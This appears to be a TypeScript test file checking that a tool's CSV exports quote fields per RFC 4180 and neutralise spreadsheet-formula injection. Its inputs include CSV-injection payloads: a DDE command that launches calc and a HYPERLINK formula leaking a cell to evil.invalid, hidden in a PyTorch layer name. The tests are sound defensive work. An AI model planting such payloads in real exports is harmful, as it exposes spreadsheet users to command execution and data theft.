// The shared CSV writer: RFC 4180 quoting and spreadsheet-formula neutralisation (OWASP CSV injection),
// and that every export goes through it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { csvCell, csvNumber, csvRow, toCsv } from '../../../src/common/csv';
import { drawsCsv } from '../../../src/sampling/drawsCsv';
import { analyze } from '../../../src/shapes';
import { diagnosticsCsv, epochsCsv } from '../../../webview/csvData';
import { summaryCsv } from '../../../src/common/summaryTable';
import { modelSummary, sampleResult1d, storedRun } from '../panel/fixtures';

/** Reads one CSV line back per RFC 4180 (quoted fields, doubled quotes), to check the writer round-trips. */
function parseCsvLine(line: string): string[] {
  const out: string[] = [];
  let i = 0;
  for (;;) {
    let cell = '';
    if (line[i] === '"') {
      i++;
      for (;;) {
        const q = line.indexOf('"', i);
        assert.ok(q >= 0, `unterminated quote in ${line}`);
        cell += line.slice(i, q);
        if (line[q + 1] === '"') {
          cell += '"';
          i = q + 2;
        } else {
          i = q + 1;
          break;
        }
      }
    } else {
      const c = line.indexOf(',', i);
      cell = line.slice(i, c < 0 ? line.length : c);
      i = c < 0 ? line.length : c;
    }
    out.push(cell);
    if (i >= line.length) return out;
    assert.equal(line[i], ',', `field not followed by a comma in ${line}`);
    i++;
  }
}

test('cells starting like a formula get a leading quote; the text survives', () => {
  for (const s of [
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '=HYPERLINK("http://x.invalid","click")',
    "=cmd|' /C calc'!A0",
  ]) {
    const cell = csvCell(s);
    const [back] = parseCsvLine(cell);
    assert.equal(back, "'" + s, `${JSON.stringify(s)} → ${cell}`);
  }
  assert.equal(csvCell('=1+1'), "'=1+1");
  assert.equal(csvCell('@x'), "'@x");
  // A formula with a comma or quote is neutralised first, then quoted.
  assert.equal(csvCell('=A1,"b"'), `"'=A1,""b"""`);
});

test('plain numbers stay numbers, as numbers or as text', () => {
  assert.equal(csvCell(-1.5), '-1.5');
  assert.equal(csvCell(1e-7), '1e-7');
  assert.equal(csvCell(-2.5e-300), '-2.5e-300');
  for (const s of ['-1.5', '+3', '-.5', '-7.', '-1e5', '-2.5E-3', '42'])
    assert.equal(csvCell(s), s);
  // Not plain numbers: still neutralised.
  for (const s of ['-Infinity', '-1.5+A1', '-1,5', '- 1', '-0x10', '+1e', '-'])
    assert.ok(csvCell(s).replace(/^"/, '').startsWith("'"), s);
  assert.equal(csvNumber(NaN), '');
  assert.equal(csvNumber(-Infinity), '');
  assert.equal(csvCell(null), '');
  assert.equal(csvCell(undefined), '');
  assert.equal(csvCell(true), 'true');
});

test('quotes, commas and newlines are quoted per RFC 4180', () => {
  assert.equal(csvCell('exp(-x^2/2), "a"'), '"exp(-x^2/2), ""a"""');
  assert.equal(csvCell('a\nb'), '"a\nb"');
  assert.equal(csvCell('a\r\nb'), '"a\r\nb"');
  assert.equal(csvCell('plain text'), 'plain text');
  assert.equal(csvRow(['a', 1, null, 'x,y']), 'a,1,,"x,y"');
  assert.equal(
    toCsv(
      ['a', 'b'],
      [
        [1, 'x,y'],
        [2, null],
      ],
    ),
    'a,b\n1,"x,y"\n2,\n',
  );
  const hostile = ['=1', 'a,b', 'say "hi"', '-x^2', '@', '+', 'x'];
  assert.deepEqual(
    parseCsvLine(csvRow(hostile)),
    hostile.map((s) => (/^[=+\-@]/.test(s) ? "'" + s : s)),
  );
});

test('a layer named =HYPERLINK(...) through add_module reaches the Summary CSV as text', () => {
  const name = '=HYPERLINK("http://evil.invalid/?x="&A1,"Click, me")';
  const src = [
    'import torch.nn as nn',
    '',
    '# input: (1, 8)',
    'class Net(nn.Module):',
    '    def __init__(self):',
    '        super().__init__()',
    `        self.add_module(${JSON.stringify(name)}, nn.Linear(8, 4))`,
    "        self.add_module('@evil', nn.ReLU())",
    '',
    '    def forward(self, x):',
    `        x = getattr(self, ${JSON.stringify(name)})(x)`,
    "        return getattr(self, '@evil')(x)",
  ].join('\n');
  const model = analyze(src).models.find((m) => m.name === 'Net');
  assert.ok(model, 'the model is found');
  const layerNames = model.layers.map((l) => l.name);
  assert.ok(
    layerNames.includes(name),
    `the engine keeps the add_module name (layers: ${JSON.stringify(layerNames)})`,
  );
  const lines = summaryCsv(model).trim().split('\n');
  assert.equal(lines[0], 'layer,type,line,output,params,multAdds');
  const cells = lines.slice(1).map(parseCsvLine);
  const layerCells = cells.map((c) => c[0]);
  assert.ok(layerCells.includes("'" + name), `neutralised: ${JSON.stringify(layerCells)}`);
  assert.ok(layerCells.includes("'@evil"));
  assert.ok(
    layerCells.every((c) => !/^[=+\-@]/.test(c)),
    'no cell starts a formula',
  );
});

test('the Summary CSV holds numbers, and leaves what is not counted empty', () => {
  const m = modelSummary();
  m.layers[3] = { ...m.layers[3], output: null, macs: undefined };
  const rows = summaryCsv(m).trim().split('\n').map(parseCsvLine);
  assert.deepEqual(rows[1], ['conv1', 'Conv2d', '12', '[B, 32, 26, 26]', '320', '194688']);
  assert.deepEqual(
    rows[2],
    ['F.relu', 'F.relu', '13', '[B, 32, 26, 26]', '', ''],
    'a functional call owns no parameters; its mult-adds are not counted',
  );
  assert.deepEqual(
    rows[4],
    ['conv2', 'Conv2d', '15', 'unknown', '18496', ''],
    'unknown mult-adds are empty, not 0',
  );
});

test('every export goes through the writer: diagnostics, training metrics, draws', () => {
  const r = sampleResult1d('=s1', 'mh', { chains: 1, n: 10 });
  const d = diagnosticsCsv([{ ...r, expr: '-x^2/2 + log(1, 2)' }])
    .trim()
    .split('\n');
  assert.deepEqual(parseCsvLine(d[1]).slice(0, 3), ["'=s1", "'-x^2/2 + log(1, 2)", 'mh']);
  const run = storedRun('r1');
  const e = epochsCsv([{ ...run, runId: '+cmd', backend: '@wasm' }])
    .trim()
    .split('\n');
  assert.deepEqual(parseCsvLine(e[1]).slice(0, 3), ["'+cmd", run.startedAt, "'@wasm"]);
  const draws = drawsCsv([Float64Array.from([-1.5, 2, -3e-9])], null).split('\n');
  assert.deepEqual(draws.slice(0, 4), ['chain,draw,x', '0,0,-1.5', '0,1,2', '0,2,-3e-9']);
  assert.equal(
    drawsCsv([Float64Array.from([0.5])], [Float64Array.from([-0.25])]),
    'chain,draw,x,y\n0,0,0.5,-0.25\n',
  );
});
